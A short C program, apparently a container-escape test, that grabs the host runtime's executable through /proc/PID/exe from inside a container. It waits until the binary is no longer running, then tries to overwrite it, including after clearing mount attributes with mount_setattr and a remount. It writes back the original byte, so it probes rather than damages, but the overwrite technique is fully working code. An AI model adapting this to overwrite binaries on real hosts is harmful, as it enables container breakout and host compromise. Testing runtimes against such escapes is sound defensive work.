/* Run as root inside a container: holds the executable of the first process that is neither ours nor the
 * container's own, waits until it is executed no more, then tries to write to it, with a root's means.
 * The bytes it writes are those that are there. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int is_same(const struct stat *a, const char *path)
{
	struct stat b;
	return stat(path, &b) == 0 && a->st_ino == b.st_ino && a->st_dev == b.st_dev;
}

static int steal(void)
{
	char path[300];
	struct stat file;
	for (;;) {
		DIR *dir = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(dir)) != NULL;) {
			if (atoi(entry->d_name) <= 0) continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0) continue;
			if (fstat(fd, &file) == 0 && !is_same(&file, "/bin/busybox") && !is_same(&file, "/proc/self/exe")) {
				closedir(dir);
				return fd;
			}
			close(fd);
		}
		closedir(dir);
	}
}

static const char *try_to_write(const char *path)
{
	char byte;
	for (int tries = 0; tries < 500; tries++) {
		int fd = open(path, O_RDWR);
		if (fd >= 0) return read(fd, &byte, 1) == 1 && pwrite(fd, &byte, 1, 0) == 1 ? "written" : strerror(errno);
		if (errno != ETXTBSY) return strerror(errno);
		usleep(10000);
	}
	return "still executed";
}

int main(void)
{
	char path[64];
	struct { uint64_t set, clear, propagation, userns; } writable = { .clear = 1 };
	puts("ready");
	fflush(stdout);
	int fd = steal();
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	puts("stolen");
	fflush(stdout);
	printf("%s\n", try_to_write(path));
	printf("mount_setattr %d\n", (int)syscall(442, fd, "", AT_EMPTY_PATH, &writable, sizeof writable));
	printf("remount %d\n", mount("none", path, NULL, MS_REMOUNT | MS_BIND, NULL));
	printf("%s\n", try_to_write(path));
	return 0;
}
